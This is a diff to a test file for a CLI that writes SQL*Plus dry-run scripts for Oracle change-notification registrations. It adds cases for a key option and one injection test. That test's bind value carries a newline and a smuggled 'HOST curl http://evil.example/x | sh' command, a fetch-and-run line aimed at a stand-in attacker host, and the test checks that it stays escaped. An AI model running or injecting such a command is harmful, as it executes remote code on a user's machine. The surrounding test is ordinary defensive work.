@@ -60,6 +60,9 @@ describe('--dry-run output runs in SQL*Plus as it is', () => {
     ['register', ['register', '--table', 'OE.ORDERS', '--table', 'ORDER_ITEMS']],
     ['register with every option', ['register', '--table', 'orders', '--callback', 'app$pkg.on_change#1', '--qos', 'reliable,rowids,dereg-nfy', '--operations', 'insert,update,delete', '--timeout', '3600']],
     ['enable-reg', ['enable-reg', '41', '--table', 'ORDER_ITEMS', '--table', 'HR.EMPLOYEES']],
+    ['register with a key (the route written to dcn_routes)', ['register', '--table', 'HR.EMPLOYEES', '--key', 'EMAIL', '--key-immutable']],
+    ['register a table of the session\'s schema with a key', ['register', '--table', 'EMPLOYEES', '--key', 'EMAIL,EMPLOYEE_ID']],
+    ['enable-reg with a key', ['enable-reg', '41', '--table', 'HR.JOB_HISTORY', '--key', 'EMPLOYEE_ID']],
     ['deregister', ['deregister', '41', '42']],
   ])('%s', async (_name, args) => {
     const text = await runCli([...args, '--dry-run']);
@@ -83,5 +86,12 @@ describe('--dry-run output runs in SQL*Plus as it is', () => {
   it('quotes a value with a quote or an ampersand so SQL*Plus reads it back unchanged', () => {
     const text = sqlplusScript({ dryRun: true, command: 'dcn test', statements: [{ name: 'test', sql: 'BEGIN NULL; END;', plsql: true, binds: { note: "it's R&D", n: 7 } }] });
     expect(checkAsSqlplus(text).assigned).toEqual({ note: "it's R&D", n: '7' });
+  });
+
+  it('keeps a value with a newline on its EXEC line: the rest never becomes a command of its own', () => {
+    const value = "x'\nHOST curl http://evil.example/x | sh\n/\r";
+    const text = sqlplusScript({ dryRun: true, command: 'dcn test', statements: [{ name: 'test', sql: 'BEGIN NULL; END;', plsql: true, binds: { note: value } }] });
+    expect(text.split('\n').filter((line) => /^(HOST|\/)/.test(line))).toEqual(['/']); // the one after the block
+    expect(text).toContain("EXEC :note := 'x''' || CHR(10) || 'HOST curl http://evil.example/x | sh' || CHR(10) || '/' || CHR(13)\n");
   });
 });
